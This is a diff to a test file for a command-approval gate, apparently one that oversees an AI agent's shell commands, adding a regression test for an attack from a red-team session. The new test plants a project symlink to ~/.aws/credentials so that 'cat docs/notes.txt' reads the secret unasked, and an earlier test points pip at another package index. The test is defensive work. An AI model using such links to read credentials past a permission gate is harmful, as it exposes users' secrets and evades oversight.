@@ -1,5 +1,8 @@
 // Attacks found in session 11 (attack11). Each test below fails on the gate as the attack found it (6f7ac82).
-import { beforeAll, describe, expect, it } from 'vitest';
+import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { type Config, defaultConfig } from '../../src/config/schema.js';
 import { analyzeLine, decisionFor, type LineAnalysis } from '../../src/gate/analyze.js';
 import { initParser } from '../../src/gate/parse.js';
@@ -142,5 +145,37 @@ describe('attack: an answer for `make build` covered make running other code (-f
     expect(await askedAfterSessionAnswer('pip install x', 'PIP_INDEX_URL=https://elsewhere.example pip install x', PROJECT)).toEqual([
       'PIP_INDEX_URL=https://elsewhere.example pip install x',
     ]);
+  });
+});
+
+describe('attack: with the sandbox off, a file in the project that is a link to a secret outside it was read unasked', () => {
+  // A repository may hold `docs/notes.txt -> ~/.aws/credentials`. Contained, the link leads to a hidden home; with
+  // the sandbox off, `cat docs/notes.txt` ran unasked and printed the credentials (checked in bash).
+  const root = realpathSync(mkdtempSync(join(tmpdir(), 'wisp-attack11-')));
+  const home = join(root, 'home');
+  const project = join(root, 'project');
+  beforeAll(() => {
+    mkdirSync(join(home, '.aws'), { recursive: true });
+    mkdirSync(join(project, 'docs'), { recursive: true });
+    writeFileSync(join(home, '.aws', 'credentials'), 'aws_secret_access_key=x\n');
+    writeFileSync(join(project, 'README.md'), 'hello\n');
+    symlinkSync(join(home, '.aws', 'credentials'), join(project, 'docs', 'notes.txt'));
+    symlinkSync(join(home, '.aws'), join(project, 'cfg'));
+    symlinkSync(join(project, 'README.md'), join(project, 'docs', 'readme-link.md'));
+  });
+  afterAll(() => rmSync(root, { recursive: true, force: true }));
+  const decide = (line: string, config: Config): string =>
+    decisionFor(analyzeLine(line, config, project, { home, project }), contained.approval.threshold);
+
+  it('reading through the link is asked when the sandbox is off, and the reason names where it leads', () => {
+    for (const line of ['cat docs/notes.txt', 'head -n 5 docs/notes.txt', 'git -C cfg log']) expect(decide(line, open), line).toBe('ask');
+    const a = analyzeLine('cat docs/notes.txt', open, project, { home, project });
+    expect(a.parts[0]!.reasons.join()).toContain(join(home, '.aws', 'credentials'));
+  });
+
+  it('a link that stays in the project, a plain file, and any file with the sandbox on still run unasked', () => {
+    expect(decide('cat docs/readme-link.md', open)).toBe('run');
+    expect(decide('cat README.md', open)).toBe('run');
+    expect(decide('cat docs/notes.txt', contained)).toBe('run');
   });
 });
